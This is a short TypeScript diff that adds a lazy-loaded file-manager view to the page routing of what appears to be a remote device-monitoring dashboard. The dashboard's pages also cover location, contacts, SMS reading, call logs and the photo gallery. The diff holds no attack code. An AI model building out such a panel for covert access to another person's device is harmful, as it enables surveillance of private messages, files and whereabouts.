@@ -12,6 +12,7 @@ const deviceFeatureViews = {
     (await import('./features/app-permissions/app-permissions.view.tsx')).AppPermissionsView,
   'device-info': async () => (await import('./features/device-info/device-info.view.tsx')).DeviceInfoView,
   locations: async () => (await import('./features/locations/locations.view.tsx')).LocationsView,
+  files: async () => (await import('./features/files/files.view.tsx')).FilesView,
   gallery: async () => (await import('./features/gallery/gallery.view.tsx')).PhotosView,
 } satisfies Record<DeviceFeatureId, LazyView>;
 
@@ -133,7 +134,7 @@ const devicePages: Page[] = [
   ),
   devicePage('trigger-notifications', 'TRIGGER_NOTIFICATIONS', 'triggerNotifications', 'bell'),
   devicePage('location', 'LOCATION', 'location', 'map', deviceFeatureViews.locations),
-  devicePage('file-manager', 'FILE_MANAGER', 'fileManager', 'folder'),
+  devicePage('file-manager', 'FILE_MANAGER', 'fileManager', 'folder', deviceFeatureViews.files),
   devicePage('contact', 'CONTACTS', 'contacts', 'contacts', deviceFeatureViews.contacts),
   devicePage('sms_chat', 'SMS_READ', 'textMessages', 'message'),
   devicePage('call', 'CALL_LOG', 'calls', 'phone', deviceFeatureViews['call-logs']),
